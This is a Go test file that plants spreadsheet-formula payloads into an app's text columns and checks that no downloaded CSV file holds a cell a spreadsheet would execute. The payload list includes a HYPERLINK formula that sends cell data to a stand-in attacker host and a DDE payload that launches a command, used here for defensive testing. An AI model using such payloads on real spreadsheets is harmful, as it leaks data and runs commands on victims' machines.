package app

import (
	"encoding/csv"
	"strconv"
	"strings"
	"testing"
)

// formulas are what spreadsheets run, as people might write it.
var formulas = []string{`=HYPERLINK("https://evil.example/?"&A1)`, "+1+1", "-1+cmd|'/c calc'!A1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"}

// worded are columns that hold what people wrote.
var worded = map[string]bool{
	"title": true, "text": true, "body": true, "name": true, "reason": true, "question": true, "summary": true, "because": true, "forwarded": true, "community": true,
	"for_org": true, "why": true, "notes": true, "description": true, "statement": true, "introduction": true, "rationale": true, "answer": true, "venue": true, "notice": true,
	"output": true, "supporting": true, "indicator": true, "baseline": true, "target": true, "budget": true, "replacement": true, "unsent": true, "quote": true, "results": true,
}

// TestGateFormulas writes formulas wherever people write, and reads every file of
// comma-separated values that the program hands out: none holds a cell that a
// spreadsheet would run.
func TestGateFormulas(t *testing.T) {
	h := openHouse(t, storeIn(t))
	h.furnish()
	h.quiet()
	for i, c := range h.columns() {
		if worded[c.name] && c.kind == "text" && !strings.HasPrefix(c.table, "activity") && c.table != "job" {
			h.exec(`UPDATE "`+c.table+`" SET "`+c.name+`" = $1 || "`+c.name+`" WHERE "`+c.name+`" <> ''`, formulas[i%len(formulas)])
		}
	}
	m := &matrix{house: h, opened: map[string]bool{}}
	m.bodies, m.required = describedBy(h)
	files, cells := 0, 0
	for _, kind := range []string{"administrator", "secretariat", "editor"} {
		v := h.as(kind)
		for _, rt := range h.Server.Routes() {
			if rt.Method != "GET" || strings.Contains(rt.Path, "/events") {
				continue
			}
			for _, at := range m.targets(rt) {
				r := m.ask(v, ask{path: at.path})
				if !strings.HasPrefix(r.header.Get("Content-Type"), "text/csv") || r.status != 200 {
					continue
				}
				files++
				cells += h.runsNothing(at.path, r.body)
			}
		}
	}
	t.Logf("figure: %d files, %d cells", files, cells)
	if files < 8 || cells < 100 {
		t.Errorf("only %d files with %d cells were read: the gate has no teeth", files, cells)
	}
}

// runsNothing reads a file and returns how many cells it has.
func (h *house) runsNothing(path, body string) (n int) {
	h.t.Helper()
	in := csv.NewReader(strings.NewReader(body))
	in.FieldsPerRecord = -1
	rows, err := in.ReadAll()
	if err != nil {
		h.t.Errorf("%s: %v", path, err)
	}
	for _, row := range rows {
		for _, c := range row {
			n++
			if _, err := strconv.ParseFloat(c, 64); c == "" || err == nil {
				continue // a number is a number
			}
			if strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				h.t.Errorf("%s hands out %.60q, which a spreadsheet runs", path, c)
				return n
			}
		}
	}
	return n
}
